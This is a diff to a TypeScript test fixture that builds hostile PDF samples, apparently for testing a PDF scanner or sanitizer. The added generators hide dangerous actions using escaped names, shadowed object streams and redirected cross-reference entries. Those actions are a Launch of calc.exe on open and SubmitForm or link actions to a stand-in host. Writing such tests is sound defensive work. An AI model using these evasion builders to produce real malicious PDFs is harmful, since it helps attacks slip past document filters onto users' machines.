@@ -115,6 +115,48 @@ function scriptUnderLaterRevision(): string {
   return `${first}4 0 obj\n<< /Type /Harmless >>\nendobj\n%%EOF\n`;
 }
 
+/**
+ * Builds an object stream with an action that only the cross-reference stream names. A harmless
+ * object of the same number follows in the file.
+ */
+function actionShadowedInObjectStream(action: string): string {
+  let text = '%PDF-1.7\n';
+  const offsets: number[] = [];
+  const add = (number: number, object: string): void => {
+    offsets[number] = text.length;
+    text += `${number} 0 obj\n${object}\nendobj\n`;
+  };
+  add(1, '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>');
+  add(2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>');
+  add(3, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>');
+  add(5, objectStream(4, action));
+  add(4, '<< /S /GoTo /D [3 0 R /Fit] >>');
+  const start = text.length;
+  const row = (type: number, field: number, last = 0): number[] => [
+    type,
+    field >> 8,
+    field & 255,
+    last,
+  ];
+  const plain = (number: number): number[] => row(1, offsets[number] ?? 0);
+  const rows = [row(0, 0), plain(1), plain(2), plain(3), row(2, 5), plain(5), row(1, start)];
+  add(6, stream('/Type /XRef /Size 7 /W [1 2 1] /Root 1 0 R', Uint8Array.from(rows.flat())));
+  return `${text}startxref\n${start}\n%%EOF\n`;
+}
+
+/** Lets the cross-reference table name an object that the file has at another place. */
+function pointToHiddenObject(number: number, hidden: string, pdf: string): string {
+  const at = pdf.indexOf(hidden);
+  const [row] = pdf.matchAll(/\d{10} 00000 n (?=\n)/g).drop(number - 1);
+  const start = row?.index ?? 0;
+  return `${pdf.slice(0, start)}${String(at).padStart(10, '0')}${pdf.slice(start + 10)}`;
+}
+
+const HIDDEN = `4 0 obj << /S /SubmitForm /F (http://x.test) >> endobj`;
+
+const openHidden = (objects: readonly string[], hidden = HIDDEN): string =>
+  pointToHiddenObject(4, hidden, writePdf({ catalog: '/OpenAction 4 0 R', objects }));
+
 const PICTURE = '/Type /XObject /Subtype /Image /Width 60000 /Height 60000';
 const PROGRAM = `MZ${'\0'.repeat(58)}`;
 
@@ -125,6 +167,29 @@ export const hostilePdfs = {
     writePdf({ catalog: '/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', objects: [SCRIPT] }),
   script_with_escaped_name: () =>
     writePdf({ page: '/AA << /O << /S /Java#53cript /J#53 (1) >> >>' }),
+  script_with_lower_case_escape: () =>
+    writePdf({ page: `/Annots [<< /A ${SCRIPT.replace('/JavaScript', '/#4aavaScript')} >>]` }),
+  launch_with_lower_case_escapes: () =>
+    writePdf({ catalog: '/#4fpenAction << /S /#4caunch /F (calc.exe) >>' }),
+  submit_form_with_lower_case_escape: () =>
+    writePdf({ catalog: '/OpenAction << /S /Sub#6ditForm /F (http://x.test) >>' }),
+  rich_media_with_lower_case_escape: () =>
+    writePdf({ page: '/Annots [<< /Subtype /Rich#4dedia >>]' }),
+  form_with_lower_case_escape_in_object_stream: () =>
+    writePdf({ objects: ['null', objectStream(4, '<< /#53 /Sub#6ditForm /F (http://x.test) >>')] }),
+  link_with_lower_case_escape_at_open: () =>
+    writePdf({ catalog: '/#4fpenAction 4 0 R', objects: [LINK] }),
+  form_in_shadowed_object_stream: () =>
+    actionShadowedInObjectStream('<< /S /SubmitForm /F (http://x.test) >>'),
+  link_in_shadowed_object_stream: () => actionShadowedInObjectStream(LINK),
+  link_in_trailer: () =>
+    writePdf().replace('/Root 1 0 R', `/Root << /Pages 2 0 R /AA << /WC ${LINK} >> >>`),
+  object_in_comment: () => openHidden([`<< /S /GoTo >>\n%${HIDDEN}`]),
+  object_in_stream: () => openHidden(['<< /S /GoTo >>', stream('', HIDDEN)]),
+  object_in_stream_with_comment: () => {
+    const hidden = HIDDEN.replace(' obj', ' %\n% 1\nobj');
+    return openHidden(['<< /S /GoTo >>', stream('', hidden)], hidden);
+  },
   script_in_object_stream: () => writePdf({ objects: ['null', objectStream(4, SCRIPT)] }),
   script_in_untyped_object_stream: () =>
     writePdf({ objects: ['null', objectStream(4, SCRIPT, '')] }),
